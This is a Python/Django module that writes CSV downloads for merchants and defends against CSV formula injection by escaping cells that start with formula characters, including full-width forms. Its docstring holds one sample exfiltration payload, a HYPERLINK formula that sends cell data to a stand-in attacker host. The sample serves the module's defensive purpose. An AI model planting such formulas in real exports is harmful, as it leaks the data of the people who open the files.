"""The one CSV writer for every file a merchant downloads (order exports, reports).

Spreadsheets (Excel, WPS, LibreOffice) run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula, and a leading tab or carriage return can hide such a start; a shopper controls recipient
names, addresses and remarks, so ``=HYPERLINK("https://evil.example/?"&A1)`` in a name would run on
the merchant's machine (OWASP "CSV injection"). ``csv_cell`` prefixes such a cell with ``'`` so the
spreadsheet shows it as text. The full-width forms (``＝＋－＠``) are treated the same: Chinese input
methods type them and some spreadsheet locales read them as the ASCII sign.

Numbers stay numbers: an ``int`` or ``Decimal`` the project writes is left alone, and so is a string
that is a plain decimal numeral (``-12.50``, ``42``) — a spreadsheet parses it as a number, never as
a formula, so a negative amount still sums. Anything else that starts with one of those characters
is text and is neutralised.

(``defusedcsv`` does the same for ``= + - @ | %`` but lets a leading tab or carriage return through,
which OWASP lists too; the rule is small enough to keep here, tested in tests/admin/test_csv_exports.py.)
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def csv_cell(value: Any) -> Any:
    """``value`` as a cell no spreadsheet runs as a formula (see the module docstring)."""
    if value is None:
        return ""
    if isinstance(value, (int, Decimal)) and not isinstance(value, bool):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_response(*, filename: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> HttpResponse:
    """A UTF-8 CSV download (with a BOM, so that Excel opens Chinese correctly); every cell, header
    included, goes through ``csv_cell``. ``filename`` must be ASCII."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    writer = csv.writer(response)
    writer.writerow([csv_cell(cell) for cell in header])
    for row in rows:
        writer.writerow([csv_cell(cell) for cell in row])
    return response
